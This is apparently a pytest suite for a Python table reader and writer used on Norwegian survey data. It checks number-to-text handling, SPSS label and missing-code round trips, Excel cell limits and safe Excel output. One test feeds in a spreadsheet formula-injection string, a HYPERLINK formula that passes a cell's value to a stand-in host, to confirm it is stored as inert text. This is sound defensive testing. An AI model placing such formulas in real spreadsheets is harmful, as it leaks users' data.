"""read_table keeps free text as written and integer columns as integers; write_table is safe for
Excel (no formulas, no silent truncation) and SPSS (valid names, labels and missing codes carried over)."""

import numpy as np
import openpyxl
import pandas as pd
import pyreadstat
import pytest

from textmine.io import check_output, read_table, sniff_csv, spss_names, write_table

FNR = "01019010046"  # synthetic, valid mod-11


def _csv(tmp_path, text, name="in.csv", encoding="utf-8"):
    p = tmp_path / name
    p.write_bytes(text.encode(encoding))
    return p


def test_text_column_of_numbers_is_read_exactly_as_written(tmp_path):
    p = _csv(tmp_path, f"id,kommentar\n1,15038512345\n2,\n3,123\n4,{FNR}\n5,\"1,5\"\n")
    df = read_table(p, text_cols=["kommentar"])
    assert df["kommentar"].tolist()[:1] + df["kommentar"].tolist()[2:] == ["15038512345", "123", FNR, "1,5"]
    assert df["kommentar"].isna().tolist() == [False, True, False, False, False]
    out = tmp_path / "o.csv"
    write_table(df, out)
    text = out.read_text(encoding="utf-8")
    assert "15038512345.0" not in text and "123.0" not in text and FNR in text


def test_zero_padded_numbers_are_never_floats(tmp_path):
    df = read_table(_csv(tmp_path, f"id,nr\n1,{FNR}\n2,\n3,123\n"))
    assert df["nr"].tolist()[0] == FNR and df["nr"].tolist()[2] == "123"


def test_integer_columns_with_blanks_stay_integers(tmp_path):
    df = read_table(_csv(tmp_path, "id;likert;vekt\n1;4;1,5\n2;;0,5\n3;7;1\n"))
    assert str(df["likert"].dtype) == "Int64" and df["likert"].isna().tolist() == [False, True, False]
    assert df["vekt"].dtype == float
    for suffix in (".csv", ".xlsx", ".parquet"):
        out = tmp_path / f"o{suffix}"
        write_table(df, out)
        back = read_table(out)
        assert back["likert"].tolist()[0] == 4 and pd.isna(back["likert"].tolist()[1]), suffix
        assert str(back["likert"].dtype) == "Int64", suffix
    assert "4.0" not in (tmp_path / "o.csv").read_text()
    write_table(df, tmp_path / "o.sav")  # SPSS: numeric with system-missing
    sav, _ = pyreadstat.read_sav(str(tmp_path / "o.sav"))
    assert sav["likert"].tolist()[0] == 4 and np.isnan(sav["likert"].tolist()[1])


def test_excel_text_column_of_numbers_and_integer_column_with_blanks(tmp_path):
    src = tmp_path / "in.xlsx"
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["id", "kommentar", "likert"])
    ws.append([1, 15038512345, 4])
    ws.append([2, None, None])
    ws.append([3, 123, 5])
    wb.save(src)
    df = read_table(src, text_cols=["kommentar"])
    assert df["kommentar"].tolist()[0] == "15038512345" and df["kommentar"].tolist()[2] == "123"
    assert str(df["likert"].dtype) == "Int64"


def test_xlsx_text_starting_with_equals_is_stored_as_text(tmp_path):
    texts = ["=) takk for hjelpen", '=HYPERLINK("http://x/?"&A1)', "+47 912", "-bra", "@alle", "vanlig"]
    out = tmp_path / "o.xlsx"
    write_table(pd.DataFrame({"id": range(len(texts)), "kommentar": texts}), out)
    ws = openpyxl.load_workbook(out).active
    cells = list(ws["B"])[1:]
    assert [c.value for c in cells] == texts
    assert all(c.data_type in ("s", "inlineStr") for c in cells)
    assert read_table(out)["kommentar"].tolist() == texts


def test_xlsx_refuses_text_longer_than_the_cell_limit(tmp_path):
    df = pd.DataFrame({"id": [1, 2, 3], "kommentar": ["x" * 40_000, "kort", "y" * 33_000]})
    with pytest.raises(ValueError, match=r"'kommentar': 2 cell.*\.csv or \.parquet"):
        check_output(tmp_path / "o.xlsx", df)
    with pytest.raises(ValueError, match="32,767"):
        write_table(df, tmp_path / "o.xlsx")
    assert not (tmp_path / "o.xlsx").exists()
    check_output(tmp_path / "o.csv", df)  # CSV keeps everything


def test_check_output_refuses_unsupported_types(tmp_path):
    with pytest.raises(ValueError, match="unsupported output type '.txt'"):
        check_output(tmp_path / "out.txt")
    assert check_output(tmp_path / "out.csv") == []


def test_spss_names_and_sav_with_invalid_column_names(tmp_path):
    m = spss_names(["id", "Hva synes du om NAV?", "1_tema", "ALL", "næring", "a" * 70])
    assert m["Hva synes du om NAV?"] == "Hva_synes_du_om_NAV" and m["1_tema"] == "v_1_tema"
    assert "id" not in m and "næring" not in m and m["ALL"] != "ALL" and len(m["a" * 70]) == 64
    df = pd.DataFrame({"id": [1, 2], "Hva synes du om NAV?": ["bra", "dårlig"]})
    notes = check_output(tmp_path / "o.sav", df)
    assert notes and "Hva_synes_du_om_NAV" in notes[0]
    write_table(df, tmp_path / "o.sav")
    sav, meta = pyreadstat.read_sav(str(tmp_path / "o.sav"))
    assert list(sav.columns) == ["id", "Hva_synes_du_om_NAV"]
    assert meta.column_names_to_labels["Hva_synes_du_om_NAV"] == "Hva synes du om NAV?"


def test_sav_to_sav_keeps_value_labels_variable_labels_and_missing_codes(tmp_path):
    src = tmp_path / "in.sav"
    df = pd.DataFrame({"id": ["a", "b", "c", "d"], "q_helhet": [1.0, 9.0, 98.0, np.nan],
                       "kommentar": ["bra", "", "dårlig", "ok"]})
    pyreadstat.write_sav(df, str(src), column_labels={"q_helhet": "Helhetsinntrykk", "kommentar": "Kommentar"},
                         variable_value_labels={"q_helhet": {1.0: "Svært dårlig", 9.0: "Vet ikke"}},
                         missing_ranges={"q_helhet": [9, {"lo": 97, "hi": 99}]},
                         variable_measure={"q_helhet": "ordinal"})
    got = read_table(src, text_cols=["kommentar"])
    got["ny"] = [1, 0, 1, 0]
    out = tmp_path / "out.sav"
    write_table(got, out)
    back, meta = pyreadstat.read_sav(str(out), user_missing=True)
    assert back["q_helhet"].tolist()[:3] == [1.0, 9.0, 98.0]
    assert meta.column_names_to_labels["q_helhet"] == "Helhetsinntrykk"
    assert meta.column_names_to_labels["kommentar"] == "Kommentar"
    assert meta.variable_value_labels["q_helhet"] == {1.0: "Svært dårlig", 9.0: "Vet ikke"}
    ranges = meta.missing_ranges["q_helhet"]
    assert {"lo": 97.0, "hi": 99.0} in ranges and {"lo": 9.0, "hi": 9.0} in ranges
    assert meta.variable_measure["q_helhet"] == "ordinal"
    assert read_table(out).attrs["missing_codes"]["q_helhet"] == [9, 97, 98, 99]


def test_sniff_csv_semicolon_cp1252(tmp_path):
    p = _csv(tmp_path, "id;kommentar\n1;Køen er lang\n2;Maten er dyr\n", encoding="cp1252")
    assert sniff_csv(p)["delimiter"] == ";" and sniff_csv(p)["encoding"] == "cp1252"
    assert sniff_csv(_csv(tmp_path, "a,b\n1,ø\n", "u.csv"))["encoding"] == "utf-8"
